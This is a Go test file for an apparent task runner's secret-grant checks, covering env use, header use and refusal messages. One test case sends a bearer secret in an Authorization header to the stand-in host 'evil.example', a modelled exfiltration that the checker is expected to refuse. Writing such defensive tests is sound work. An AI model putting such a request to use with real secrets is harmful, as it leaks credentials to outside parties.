package tasks_test

import (
	"errors"
	"slices"
	"testing"

	"github.com/airlock-run/airlock/limits"
	"github.com/airlock-run/airlock/policy"
	"github.com/airlock-run/airlock/tasks"
)

// TestCheckGrants: a spec's use of secrets against grants: every refusal
// a *FieldError naming the field, the secret and what its grant lacks.
func TestCheckGrants(t *testing.T) {
	grants := map[string]policy.Grant{
		"HEADER_ONLY": {Name: "HEADER_ONLY", Queues: []string{"q"}, Hosts: []string{"partner.example"}},
		"ENV_OK":      {Name: "ENV_OK", Queues: []string{"q"}, Env: true},
		"NO_HOSTS":    {Name: "NO_HOSTS", Queues: []string{"q"}},
	}
	lookup := func(n string) (policy.Grant, bool) { g, ok := grants[n]; return g, ok }
	tests := []struct {
		name, spec string
		field, msg string // "" when granted
	}{
		{"header to a granted host", `{"version": 1, "secrets": ["HEADER_ONLY"],
			"inputs": [{"url": "https://partner.example/x", "path": "in/x", "headers": {"Authorization": "Bearer ${secret:HEADER_ONLY}"}}],
			"steps": [{"run": ["true"]}]}`, "", ""},
		{"env granted", `{"version": 1, "secrets": ["ENV_OK"], "steps": [{"run": ["true"], "env": {"K": "${secret:ENV_OK}"}}]}`, "", ""},
		{"declared, never used, granted", `{"version": 1, "secrets": ["NO_HOSTS"], "steps": [{"run": ["true"]}]}`, "", ""},
		{"not granted", `{"version": 1, "secrets": ["ENV_OK", "PARTNER_TOKEN"], "steps": [{"run": ["true"]}]}`,
			"secrets[1]", `secret PARTNER_TOKEN: not granted to queue "q"`},
		{"env without env: true", `{"version": 1, "secrets": ["HEADER_ONLY"], "steps": [{"run": ["true"]}, {"run": ["true"], "env": {"A": "x", "TOK": "${secret:HEADER_ONLY}"}}]}`,
			`steps[1].env["TOK"]`, "secret HEADER_ONLY: not granted to steps' environments (its grant lacks env: true)"},
		{"header without hosts", `{"version": 1, "secrets": ["NO_HOSTS"],
			"inputs": [{"url": "https://partner.example/x", "path": "in/x", "headers": {"X-Key": "${secret:NO_HOSTS}"}}],
			"steps": [{"run": ["true"]}]}`,
			`inputs[0].headers["X-Key"]`, "secret NO_HOSTS: not granted to any host (its grant names no hosts: it may not go in an input header)"},
		{"header to another host", `{"version": 1, "secrets": ["HEADER_ONLY"],
			"inputs": [{"url": "https://partner.example/x", "path": "in/a"}, {"url": "https://partner.example:8443/x", "path": "in/b", "headers": {"Authorization": "Bearer ${secret:HEADER_ONLY}"}},
			           {"url": "https://evil.example/x", "path": "in/c", "headers": {"Authorization": "Bearer ${secret:HEADER_ONLY}"}}],
			"steps": [{"run": ["true"]}]}`,
			`inputs[2].headers["Authorization"]`, `secret HEADER_ONLY: not granted to host "evil.example" (its grant's hosts: partner.example)`},
		{"env granted, header not", `{"version": 1, "secrets": ["ENV_OK"],
			"inputs": [{"url": "https://partner.example/x", "path": "in/x", "headers": {"A": "${secret:ENV_OK}"}}],
			"steps": [{"run": ["true"], "env": {"K": "${secret:ENV_OK}"}}]}`,
			`inputs[0].headers["A"]`, "secret ENV_OK: not granted to any host (its grant names no hosts: it may not go in an input header)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := tasks.Decode([]byte(tt.spec))
			if err != nil {
				t.Fatal(err)
			}
			s.Queue = "q"
			if err := s.Prepare(limits.DefaultPolicy()); err != nil {
				t.Fatal(err)
			}
			err = s.CheckGrants(lookup, `queue "q"`)
			if tt.field == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var fe *tasks.FieldError
			if !errors.As(err, &fe) || !errors.Is(err, tasks.ErrInvalidSpec) {
				t.Fatalf("CheckGrants: %v, want a *FieldError", err)
			}
			if fe.Field != tt.field || fe.Msg != tt.msg || fe.Hint != tasks.GrantsHint {
				t.Errorf("got %q: %q (%q)\nwant %q: %q (%q)", fe.Field, fe.Msg, fe.Hint, tt.field, tt.msg, tasks.GrantsHint)
			}
		})
	}
}

// TestCheckGrantsNothingGranted: with no grant at all, a declared secret is
// refused whatever it is used for, and a spec without secrets passes.
func TestCheckGrantsNothingGranted(t *testing.T) {
	none := func(string) (policy.Grant, bool) { return policy.Grant{}, false }
	s := &tasks.Spec{Version: 1, Secrets: []string{"A_KEY"}, Steps: []tasks.Step{{Run: []string{"true"}}}}
	if err := s.CheckGrants(none, `queue "q"`); err == nil || err.Error() != `secrets[0]: secret A_KEY: not granted to queue "q" (policy secrets: section)` {
		t.Errorf("got %v", err)
	}
	s.Secrets = nil
	if err := s.CheckGrants(none, `queue "q"`); err != nil {
		t.Errorf("no secrets: %v", err)
	}
}

// TestEnvSecrets: the secrets steps see in their environment, once each.
func TestEnvSecrets(t *testing.T) {
	s := &tasks.Spec{Steps: []tasks.Step{
		{Env: map[string]string{"A": "${secret:B_KEY}-${secret:A_KEY}", "C": "plain"}},
		{Env: map[string]string{"D": "${secret:A_KEY}"}},
		{},
	}}
	if got := s.EnvSecrets(); !slices.Equal(got, []string{"A_KEY", "B_KEY"}) {
		t.Errorf("EnvSecrets = %v", got)
	}
	if got := (&tasks.Spec{Steps: []tasks.Step{{Env: map[string]string{"A": "x"}}}}).EnvSecrets(); len(got) != 0 {
		t.Errorf("EnvSecrets without secrets = %v", got)
	}
}
